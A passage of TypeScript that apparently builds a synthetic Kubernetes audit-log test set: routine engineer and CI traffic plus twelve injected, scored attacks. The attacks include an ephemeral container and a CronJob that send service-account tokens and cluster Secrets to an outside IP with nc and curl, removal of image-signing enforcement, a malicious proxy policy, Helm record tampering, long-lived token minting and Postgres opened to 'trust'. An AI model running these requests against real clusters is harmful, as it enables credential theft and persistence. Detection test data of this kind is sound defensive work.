          seq(tt, reqs, gapMs);
        };
        if (p.kind === 'auditor' && scored) {
          // Both clusters, one sitting each, at a reader's pace (one request every 4 s).
          run(at(from + 0.1), accessReview(p.kubectlOs, NAMESPACES).map((q) => ({ ...q, cluster: si === 0 ? DUB : SYD })), 4 * S, 10);
        }
        if (si !== 0 && p.kind !== 'syd-oncall') return;
        if (p.kind === 'host' && scored) {
          // 10:00–11:00: the new engineer drives the host's laptop; a burst every 2–5 minutes.
          const reqs: Req[] = [];
          let tt = at(10);
          for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= at(10) - 2 * M && mine[k]!.at <= at(11)) mine.splice(k, 1);
          while (tt < at(11)) {
            reqs.push(...pairingTask(rand));
            seq(tt, reqs.splice(0), 1500);
            tt += 2 * M + rand() * 3 * M;
          }
        }
        if (p.kind === 'host' && !scored) run(at(10.5), [{ method: 'GET', path: '/api/v1/namespaces/payments-prod/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/payments-prod/secrets/payments-db-app' }], 3 * S, 1);
        if (p.kind === 'helm' && scored) run(at(14.2), helmUpgrade('payments-staging', 38), 400, 3);
        if (p.kind === 'helm' && !scored) run(at(14.2), helmUpgrade('payments-staging', 37), 400, 3);
        if (p.kind === 'dba' && scored) run(at(11), failover(), 20 * S, 10);
        if (p.kind === 'flux' && scored) run(at(13), certRenew(p.kubectlOs), 3 * S, 2);
        if (p.kind === 'oncall' && scored) run(at(9.17), incident(p.kubectlOs), 40 * S, 12);
        if (p.kind === 'oncall' && !scored) run(at(9.5), incident(p.kubectlOs).filter((q) => q.method === 'GET' && !q.path.includes('portforward') && !q.path.includes('attach')), 40 * S, 12);
        if (p.kind === 'syd-oncall' && si === 0) run(at(6.75), handover(), 30 * S, 4);
        if (p.kind === 'syd-oncall' && si === 1 && scored) run(at(from + 0.05), nightPage().map((q) => ({ ...q, cluster: DUB })), 50 * S, 30);
      });
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    // CI: GitHub Actions self-hosted runners deploy to staging on both clusters every 20 minutes.
    for (let j = 0; j < 27; j++) {
      const t = at(8 + j / 3);
      const login: Login = { sub: 'ci-deployer@fin.example', sid: `ci12:${day}:${j}`, authTime: Math.floor(t / 1000), acr: 'urn:stepgate:aal1' };
      const ip = `10.30.${j % 4}.${20 + (j % 30)}`;
      const ua = 'kubectl/v1.32.2 (linux/amd64) kubernetes/67a30c0';
      const team = TEAMS[j % 3]!;
      const host = j % 2 ? SYD : DUB;
      events.push({ at: t, actor: 'ci', scored, ip, ua, login, host, method: 'PATCH', path: `/apis/apps/v1/namespaces/${team}-staging/deployments/${team}-api?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: `ghcr.io/fin-example/${team}-api:sha-${(j * 7919 + 12).toString(16)}` }] } } } }) });
      events.push({ at: t + 4000, actor: 'ci', scored, ip, ua, login, host, method: 'GET', path: `/apis/apps/v1/namespaces/${team}-staging/deployments/${team}-api` });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks12(people, events));
}

/** The victim's kubectl request last at or before `t` on the scored day (the first one when none is before). */
function lastOf(routine: readonly DayEvent[], actor: string, t: number): DayEvent {
  let e: DayEvent | undefined;
  for (const x of routine) if (x.actor === actor && x.scored && x.ua.startsWith('kubectl/') && (e === undefined || x.at <= t)) e = x;
  return e!;
}

function attacks12(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const by = (name: string) => people.find((p) => p.name === `d12-${name}@fin.example`)!;
  const add = attackAdder(out);
  const T = (h: number) => D12_THU + h * H;
  const on = (host: string, reqs: AttackRequest[]): AttackRequest[] => reqs.map(([m, p, s, h, b]) => [m, p, s, h, b, host]);
  /** Malware on the victim's laptop: their address, kubectl and token at `h`. */
  const onLaptop = (attack: string, p: Person, h: number, host: string, reqs: AttackRequest[], gapMs: number) => {
    const v = lastOf(routine, p.name, T(h));
    add(attack, T(h), v.ip, v.ua, v.login, on(host, reqs), gapMs, p);
  };

  // 1. Peirates-style: malware on the Dublin on-call's laptop, an hour after the incident's own
  // `kubectl debug`, adds an ephemeral container to another payments-api pod that reads the pod's
  // service-account token from the target container's filesystem and posts it out.
  const oncall = by('oncall');
  onLaptop("ephemeral container reads a production pod's token (on-call laptop, after the incident)", oncall, 10.4, DUB, [
    ['PATCH', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8b9c-r8w3z/ephemeralcontainers', true, SMP, JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debugger-p9z4m', image: 'alpine:3.21', command: ['sh', '-c', 'cat /proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token | nc 45.135.232.18 443'], targetContainerName: 'api', terminationMessagePolicy: 'File', imagePullPolicy: 'IfNotPresent', resources: {} }] } })],
  ], 1000);
  // 2. The kubelet's exec through nodes/proxy opened as a WebSocket GET (a `get nodes/proxy` grant
  // suffices for it), and its /run, from the platform laptop.
  const flux = by('flux');
  const node = 'ip-10-40-12-77.eu-west-1.compute.internal';
  onLaptop("kubelet exec through nodes/proxy as a WebSocket GET (platform laptop)", flux, 15.2, DUB, [
    ['GET', `/api/v1/nodes/${node}/proxy/exec/payments-prod/payments-api-6f8b9c-k2x7q/api?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&output=1&error=1`, true, { ...WS, 'sec-websocket-protocol': 'v4.channel.k8s.io' }],
    ['POST', `/api/v1/nodes/${node}/proxy/run/payments-prod/payments-api-6f8b9c-k2x7q/api?cmd=env`, true],
  ], 2000);
  // 3. GitOps persistence: the flux-system GitRepository moved to the attacker's branch (a JSON
  // patch, as `kubectl patch --type json` sends it), then a Kustomization's path, 40 minutes after
  // the platform engineer's own `flux reconcile`.
  onLaptop('Flux GitRepository and Kustomization repointed (platform laptop)', flux, 11.7, DUB, [
    ['GET', '/apis/source.toolkit.fluxcd.io/v1/namespaces/flux-system/gitrepositories/flux-system', false],
    ['PATCH', '/apis/source.toolkit.fluxcd.io/v1/namespaces/flux-system/gitrepositories/flux-system', true, JSONPATCH, JSON.stringify([{ op: 'replace', path: '/spec/ref', value: { branch: 'renovate/lock-file-maintenance' } }])],
    ['PATCH', '/apis/kustomize.toolkit.fluxcd.io/v1/namespaces/flux-system/kustomizations/apps', true, JSONPATCH, JSON.stringify([{ op: 'replace', path: '/spec/path', value: './clusters/dub/.cache' }])],
  ], 4000);
  // 4. A Helm release record rewritten in production (`kubectl get secret … -o json | jq | kubectl
  // replace -f -`): its manifest now carries a Deployment with the attacker's sidecar; the next
  // `helm rollback` (or an upgrade's three-way merge) applies it. From the Helm user's laptop.
  const helm = by('dub-0');
  onLaptop('Helm release record rewritten in production (dev laptop)', helm, 15.3, DUB, [
    ['GET', '/api/v1/namespaces/payments-prod/secrets?labelSelector=name%3Dpayments-api%2Cowner%3Dhelm%2Cstatus%3Ddeployed', true],
    ['PUT', '/api/v1/namespaces/payments-prod/secrets/sh.helm.release.v1.payments-api.v41', true, JSON_CT, releaseSecret('payments-api', 'payments-prod', 41, 'superseded', 'H4sIAAAAAAAC/+y9W3PbSJIw+lcQnIgzdmwDqiQHPM3BKA==')],
  ], 6000);
  // 5. A year-long token for the database operator's account (it reads every Cluster's Secrets),
  // an hour after the failover, from the DBA's laptop.
  const dba = by('dba');
  onLaptop("year-long token for the database operator's service account (DBA laptop)", dba, 12.1, DUB, [
    ['POST', '/api/v1/namespaces/cnpg-system/serviceaccounts/cnpg-manager/token', true, JSON_CT, JSON.stringify({ kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { audiences: null, expirationSeconds: 31_536_000, boundObjectRef: null } })],
  ], 1000);
  // 6. A guard removed and a mutation planted: the binding of the policy that refuses unsigned
  // images deleted, then a MutatingAdmissionPolicy (v1beta1) that adds an env var with the
  // attacker's proxy to every new Pod. From the platform laptop, an hour after its sign-in.
  onLaptop('ValidatingAdmissionPolicyBinding removed, MutatingAdmissionPolicy planted (platform laptop)', flux, 9.6, DUB, [
    ['DELETE', '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/require-signed-images', true],
    ['POST', '/apis/admissionregistration.k8s.io/v1beta1/mutatingadmissionpolicies?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'admissionregistration.k8s.io/v1beta1', kind: 'MutatingAdmissionPolicy', metadata: { name: 'proxy-env' }, spec: { matchConstraints: { resourceRules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }] }, failurePolicy: 'Ignore', reinvocationPolicy: 'IfNeeded', mutations: [{ patchType: 'ApplyConfiguration', applyConfiguration: { expression: "Object{spec: Object.spec{containers: object.spec.containers.map(c, Object.spec.containers{name: c.name, env: [Object.spec.containers.env{name: 'HTTPS_PROXY', value: 'http://45.135.232.18:3128'}]})}}" } }] } })],
  ], 3000);
  // 7. Persistence in a quiet namespace: a CronJob in cnpg-system running as the operator's service
  // account (which can read every database's Secrets), every six hours. From the DBA's laptop.
  onLaptop("CronJob running as the database operator's account in its namespace (DBA laptop)", dba, 15.8, DUB, [
    ['POST', '/apis/batch/v1/namespaces/cnpg-system/cronjobs?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'cnpg-backup-verify', namespace: 'cnpg-system' }, spec: { schedule: '17 */6 * * *', jobTemplate: { spec: { template: { spec: { serviceAccountName: 'cnpg-manager', restartPolicy: 'OnFailure', containers: [{ name: 'verify', image: 'bitnami/kubectl:1.32', command: ['sh', '-c', 'kubectl get secrets -A -l cnpg.io/reload -o json | curl -s --data-binary @- https://45.135.232.18/c'] }] } } } } } })],
  ], 1000);
  // 8. 04:10 in Sydney (17:10 UTC): malware on the Sydney on-call's laptop at home, an hour after
  // the night page, port-forwards to the production primary and reads the superuser's Secret.
  const syd = by('syd-oncall');
  onLaptop("port-forward to the production database at 04:10 Sydney (on-call's laptop)", syd, 17.15, DUB, [
    ['GET', '/api/v1/namespaces/payments-prod/pods/payments-db-1/portforward?ports=5432', true, WS_PF],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-superuser', true],
  ], 5000);
  // 9. The handover window: the Sydney on-call's token (copied from a shared handover laptop) used
  // at the Dublin office 15 minutes after the handover, kubectl on Linux like theirs.
  const hv = lastOf(routine, syd.name, T(7));
  add("Sydney on-call's token used at the Dublin office during the handover", T(7.25), '10.40.3.201', hv.ua, hv.login, on(DUB, [
    ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-superuser', true],
    ['GET', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8b9c-k2x7q/exec?command=sh&container=api&stdin=true&stdout=true&tty=true', true, WS],
  ]), 8000, syd);
  // 10. The pairing partner kept the host's token (kubelogin's cache, copied during the session) and
  // uses it from their own desk after lunch, kubectl on a Mac like the host's.
  const host = by('host');
  const newbie = by('newbie');
  const hl = lastOf(routine, host.name, T(13.5));
  const nl = lastOf(routine, newbie.name, T(13.5));
  add("pairing partner keeps using the host's token (own desk)", T(13.55), nl.ip, hl.ua, hl.login, on(DUB, [
    ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-app', true],
    ['GET', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8b9c-t5n6c/exec?command=sh&container=api&stdin=true&stdout=true&tty=true', true, WS],
  ]), 30 * S, host);
  // 11. Postgres opened to the world: the CNPG Cluster's pg_hba given `host all all 0.0.0.0/0
  // trust` (the operator reloads it), by merge patch from the DBA's laptop.
  onLaptop("Postgres pg_hba opened to trust (DBA laptop)", dba, 16.2, DUB, [
    ['PATCH', '/apis/postgresql.cnpg.io/v1/namespaces/payments-prod/clusters/payments-db?fieldManager=kubectl-patch', true, MERGE, JSON.stringify({ spec: { postgresql: { pg_hba: ['host all all 0.0.0.0/0 trust'] } } })],
  ], 1000);
  // 12. The other cluster: malware on a Dublin engineer's laptop (k9s user, who works on Dublin's
  // cluster) reads ledger-prod's Secrets on Sydney's, which the engineer never uses.
  const d1 = by('dub-1');
  onLaptop("Secrets on the other cluster with a Dublin engineer's token (home laptop)", d1, 13.2, SYD, [
    ['GET', '/api/v1/namespaces/ledger-prod/secrets?limit=500', true],
    ['GET', '/api/v1/namespaces/ledger-prod/secrets/ledger-db-superuser', true],
  ], 20 * S);
  return out;
}
